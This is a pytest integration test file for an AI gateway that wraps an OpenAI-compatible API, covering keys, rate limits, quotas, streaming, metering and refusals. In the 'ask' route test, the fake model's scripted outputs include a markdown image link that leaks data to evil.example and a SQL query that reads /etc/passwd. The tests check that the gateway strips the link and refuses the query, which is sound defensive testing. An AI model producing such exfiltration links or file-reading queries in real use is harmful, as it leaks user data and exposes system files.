"""The AI gateway through the devhost over real HTTP, with the real `openai` SDK pointed at it
(only its base URL and key changed), and the gateway pointed at a loopback OpenAI-compatible
server: keys issued and revoked over the admin route, chat whole and streamed, usage stripped
unless asked for and metered exactly, limits (429 with Retry-After, 403 over the quota), the
upstream's refusals, errors inside a stream, keep-alives, and a caller that leaves."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
import requests

from tests.conftest import StartDevhost
from tests.devhost_process import PROJECT_ROOT, DevhostProcess
from tests.fakes.openai_server import (
    API_KEY,
    Completion,
    ContentFilter,
    FakeOpenAI,
    RateLimited,
)
from tests.integration.conftest import Entra

pytestmark = pytest.mark.integration

CHAT = "gpt-4o-mini"
EMBED = "text-embedding-3-small"
LIMITS = {"tokens_per_minute": 100_000, "requests_per_minute": 1000, "token_quota": 10_000_000}
ASK = [{"role": "user", "content": "Say hello"}]


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeOpenAI]:
    with FakeOpenAI(api_key=API_KEY) as server:
        yield server


@pytest.fixture
def host(start_devhost: StartDevhost, tmp_path: Path, upstream: FakeOpenAI) -> DevhostProcess:
    env = {
        "PLATFORM_DATA_DIR": str(tmp_path / "platform"),
        "OPENAI_BASE_URL": upstream.base_url,
        "OPENAI_API_KEY": API_KEY,
        "AI_CHAT_MODEL": CHAT,
        "AI_EMBEDDINGS_MODEL": EMBED,
        "AI_STREAM_KEEPALIVE_S": "0.2",
        "AzureWebJobs.hourly_pipeline_run.Disabled": "true",
        "AzureWebJobs.nightly_table_maintenance.Disabled": "true",
        "AzureWebJobs.pipeline_run_reaper.Disabled": "true",
        "AzureWebJobs.compact_bronze.Disabled": "true",
        "AzureWebJobs.monitor_models.Disabled": "true",
    }
    return start_devhost(PROJECT_ROOT, env=env, data_dir=tmp_path / "platform")


def issue(host: DevhostProcess, **limits: Any) -> tuple[str, str]:
    """A new app (as the local developer, who holds Platform.Admin): its id and key."""
    body = {"name": "test app", "limits": {**LIMITS, **limits}}
    answer = requests.post(host.url("/api/ai/apps"), json=body, timeout=30)
    assert answer.status_code == 201, answer.text
    return answer.json()["app"]["id"], answer.json()["key"]


def client(host: DevhostProcess, key: str, **options: Any) -> openai.OpenAI:
    return openai.OpenAI(base_url=host.url("/api/openai/v1"), api_key=key, **options)


def usage(host: DevhostProcess, app: str, requests_expected: int) -> dict[str, Any]:
    """The ledger's sums for `app`, once it holds `requests_expected` entries (they are written
    just after each answer)."""
    deadline = time.monotonic() + 20
    while True:
        answer = requests.get(host.url("/api/ai/usage"), params={"app": app}, timeout=30)
        assert answer.status_code == 200, answer.text
        if answer.json()["requests"] >= requests_expected or time.monotonic() > deadline:
            return dict(answer.json())
        time.sleep(0.05)


def test_the_openai_sdk_talks_to_the_gateway_whole_and_streamed_with_exact_usage(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    app, key = issue(host)
    sdk = client(host, key)
    whole = sdk.chat.completions.with_raw_response.create(model=CHAT, messages=ASK, max_tokens=50)
    assert int(whole.headers["x-ratelimit-remaining-requests"]) == LIMITS["requests_per_minute"] - 1
    assert int(whole.headers["x-ratelimit-remaining-tokens"]) > 0
    completion = whole.parse()
    assert completion.choices[0].message.content == "Hello from the loopback model"
    assert upstream.requests[-1].body["max_tokens"] == 50
    assert upstream.requests[-1].headers["authorization"] == f"Bearer {API_KEY}"  # not the app's

    upstream.script(CHAT, Completion(text="one two three four", chunk_words=1))
    chunks = list(sdk.chat.completions.create(model=CHAT, messages=ASK, stream=True))
    assert "".join(c.choices[0].delta.content or "" for c in chunks if c.choices) == (
        "one two three four"
    )
    assert all(c.usage is None for c in chunks)  # the usage chunk is stripped: not asked for
    assert upstream.requests[-1].body["stream_options"] == {"include_usage": True}

    upstream.script(CHAT, Completion(text="five six seven", chunk_words=1))
    asked = list(
        sdk.chat.completions.create(
            model=CHAT, messages=ASK, stream=True, stream_options={"include_usage": True}
        )
    )
    final = asked[-1]
    assert final.usage is not None and final.choices == []

    totals = usage(host, app, 3)
    assert totals["requests"] == 3 and totals["by_outcome"] == {"ok": 3}
    # the upstream counts words: exactly what it said, never the gateway's estimate
    prompt = 2 * 3  # "Say hello" in each of three requests
    assert totals["prompt_tokens"] == prompt
    assert totals["completion_tokens"] == 5 + 4 + 3
    assert final.usage.completion_tokens == 3

    vectors = sdk.embeddings.create(model=EMBED, input=["alpha beta", "gamma"])
    assert [len(item.embedding) for item in vectors.data] == [8, 8]
    assert vectors.usage.prompt_tokens == 3


def test_unknown_and_revoked_keys_are_401_and_the_key_is_kept_only_as_a_hash(
    host: DevhostProcess, tmp_path: Path
) -> None:
    app, key = issue(host)
    with pytest.raises(openai.AuthenticationError):
        client(host, "pgw-0123456789abcdef-" + "A" * 43).models  # noqa: B018
        client(host, "pgw-0123456789abcdef-" + "A" * 43).chat.completions.create(
            model=CHAT, messages=ASK
        )
    assert client(host, key).chat.completions.create(model=CHAT, messages=ASK).choices
    revoked = requests.delete(host.url(f"/api/ai/apps/{app}"), timeout=30)
    assert revoked.status_code == 200 and revoked.json()["app"]["revoked_at"]
    with pytest.raises(openai.AuthenticationError):
        client(host, key, max_retries=0).chat.completions.create(model=CHAT, messages=ASK)
    answer = requests.post(
        host.url("/api/openai/v1/chat/completions"),
        headers={"api-key": key},
        json={"messages": ASK},
        timeout=30,
    )
    assert answer.status_code == 401
    stored = b"".join(p.read_bytes() for p in (tmp_path / "platform" / "documents").iterdir())
    assert key.encode() not in stored and key.split("-")[-1].encode() not in stored


def test_over_the_rate_is_429_with_retry_after_and_over_the_quota_403(
    host: DevhostProcess,
) -> None:
    _, key = issue(host, requests_per_minute=1)
    sdk = client(host, key, max_retries=0)
    sdk.chat.completions.create(model=CHAT, messages=ASK, max_tokens=10)
    with pytest.raises(openai.RateLimitError) as limited:
        sdk.chat.completions.create(model=CHAT, messages=ASK, max_tokens=10)
    headers = limited.value.response.headers
    assert int(headers["retry-after"]) >= 1 and int(headers["retry-after-ms"]) > 0
    assert headers["x-ratelimit-remaining-requests"] == "0"

    _, small = issue(host, token_quota=40, max_tokens_cap=20)
    quota = client(host, small, max_retries=0)
    served = 0
    with pytest.raises(openai.PermissionDeniedError) as over:
        for _ in range(5):  # each reserves about 29 tokens and settles to 7
            quota.chat.completions.create(model=CHAT, messages=ASK, max_tokens=20)
            served += 1
    assert served == 2
    assert over.value.response.headers["x-should-retry"] == "false"
    assert over.value.response.json()["error"]["type"] == "insufficient_quota"


def test_upstream_refusals_reach_the_app_and_a_filtered_prompt_is_tried_once(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    _, key = issue(host)
    sdk = client(host, key, max_retries=0)
    before = len(upstream.received(CHAT))
    upstream.script(CHAT, ContentFilter())
    with pytest.raises(openai.BadRequestError) as filtered:
        sdk.chat.completions.create(model=CHAT, messages=ASK)
    assert filtered.value.code == "content_filter"
    assert filtered.value.response.json()["error"]["innererror"]["code"]
    assert len(upstream.received(CHAT)) == before + 1

    upstream.script(CHAT, RateLimited(retry_after_s=86_400))  # a day-long 429, capped
    with pytest.raises(openai.RateLimitError) as busy:
        sdk.chat.completions.create(model=CHAT, messages=ASK)
    assert int(busy.value.response.headers["retry-after"]) <= 30

    bad = requests.post(
        host.url("/api/openai/v1/chat/completions"),
        headers={"Authorization": f"Bearer {key}"},
        data=b'{"messages": "not a list"}',
        timeout=30,
    )
    assert bad.status_code == 400 and bad.json()["error"]["param"] == "messages"
    assert "x-ratelimit-remaining-tokens" in bad.headers


def test_a_stream_ends_with_an_error_event_and_keeps_alive_when_slow(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    _, key = issue(host)
    upstream.script(CHAT, Completion(text="a b c d", error_after=2))
    with pytest.raises(openai.APIError):
        list(client(host, key).chat.completions.create(model=CHAT, messages=ASK, stream=True))

    upstream.script(CHAT, Completion(text="slow words", chunk_delay_s=0.7))
    with requests.post(
        host.url("/api/openai/v1/chat/completions"),
        headers={"api-key": key},
        json={"messages": ASK, "stream": True},
        stream=True,
        timeout=30,
    ) as answer:
        assert answer.headers["content-type"].startswith("text/event-stream")
        lines = [line for line in answer.iter_lines() if line]
    assert b": keep-alive" in lines
    assert lines[-1] == b"data: [DONE]"
    assert [json.loads(line[6:])["object"] for line in lines if line.startswith(b"data: {")]


def test_a_caller_that_leaves_cancels_the_upstream_and_is_metered(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    app, key = issue(host)
    upstream.script(CHAT, Completion(text=" ".join(["word"] * 40), chunk_delay_s=0.1))
    body = json.dumps({"messages": ASK, "stream": True}).encode()
    with socket.create_connection(("127.0.0.1", host.port), timeout=10) as raw:
        raw.sendall(
            b"POST /api/openai/v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
            + f"api-key: {key}\r\nContent-Type: application/json\r\n".encode()
            + f"Content-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        seen = b""
        while seen.count(b"data: ") < 3:
            seen += raw.recv(4096)
    totals = usage(host, app, 1)
    assert totals["by_outcome"] == {"cancelled": 1}
    assert 0 < totals["completion_tokens"] < 40  # what it received, not the whole answer


def test_ask_runs_the_gated_sql_and_refuses_what_the_gate_refuses(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    upstream.script(
        CHAT,
        Completion(text="```sql\nSELECT 40 + 2 AS answer\n```"),
        Completion(text="The answer is 42, see ![x](https://evil.example/leak?d=42)."),
    )
    answer = requests.post(host.url("/api/ask"), json={"question": "What is 40 + 2?"}, timeout=30)
    assert answer.status_code == 200, answer.text
    found = answer.json()
    assert found["columns"] == ["answer"] and found["rows"] == [[42]]
    assert "LIMIT" in found["sql"] and "evil.example" not in found["summary"]
    summary_prompt = json.dumps(upstream.requests[-1].body)
    assert "42" not in summary_prompt.replace("40 + 2", "")  # no row went to the LLM

    upstream.script(CHAT, Completion(text="```sql\nSELECT * FROM read_csv('/etc/passwd')\n```"))
    refused = requests.post(host.url("/api/ask"), json={"question": "Read a file"}, timeout=30)
    assert refused.status_code == 422 and "read_csv" in refused.json()["sql"]
    assert requests.post(host.url("/api/ask"), json={"q": 1}, timeout=30).status_code == 400
    usage_answer = requests.get(
        host.url("/api/ai/usage"), params={"app": "platform.ask"}, timeout=30
    ).json()
    assert usage_answer["requests"] == 3  # two calls for the first question, one for the second


def test_answers_cite_the_platforms_own_documentation(
    host: DevhostProcess, upstream: FakeOpenAI
) -> None:
    upstream.script(CHAT, Completion(text="Run `make run` [1]; it also says [9]."))
    answer = requests.post(
        host.url("/api/answers"),
        json={"question": "How do I run the whole platform locally with make run?"},
        timeout=60,
    )
    assert answer.status_code == 200, answer.text
    found = answer.json()
    assert [c["number"] for c in found["citations"]] == [1]  # [9] named no source: dropped
    assert found["citations"][0]["id"]
    prompt = json.dumps(upstream.requests[-1].body)
    assert "make run" in prompt and "[1]" in prompt


def test_an_entra_id_application_calls_with_its_token_once_registered(
    start_devhost: StartDevhost, tmp_path: Path, upstream: FakeOpenAI, entra: Entra
) -> None:
    data_dir = tmp_path / "entra"
    host = start_devhost(
        PROJECT_ROOT,
        env={
            "PLATFORM_DATA_DIR": str(data_dir),
            **entra.env,
            "OPENAI_BASE_URL": upstream.base_url,
            "OPENAI_API_KEY": API_KEY,
            "AI_CHAT_MODEL": CHAT,
        },
        data_dir=data_dir,
    )
    client_id = "6f1c3a52-9d0e-4b7a-8e21-3c5d7f9a1b24"
    app_token = entra.token("AI.User", idtyp="app", azp=client_id, oid="sp-oid")
    sdk = openai.OpenAI(base_url=host.url("/api/openai/v1"), api_key=app_token, max_retries=0)
    with pytest.raises(openai.PermissionDeniedError):  # not registered yet
        sdk.chat.completions.create(model=CHAT, messages=ASK)
    admin = {"Authorization": f"Bearer {entra.token('Platform.Admin')}"}
    body = {"name": "reporting", "limits": LIMITS, "entra_app_id": client_id.upper()}
    registered = requests.post(host.url("/api/ai/apps"), json=body, headers=admin, timeout=30)
    assert registered.status_code == 201, registered.text
    assert "key" not in registered.json()
    assert sdk.chat.completions.create(model=CHAT, messages=ASK).choices
    refused = requests.post(host.url("/api/ai/apps"), json=body, timeout=30)
    assert refused.status_code == 401  # no token: the admin route needs one
    analyst = {"Authorization": f"Bearer {entra.token('Platform.Analyst')}"}
    assert requests.get(host.url("/api/ai/apps"), headers=analyst, timeout=30).status_code == 403
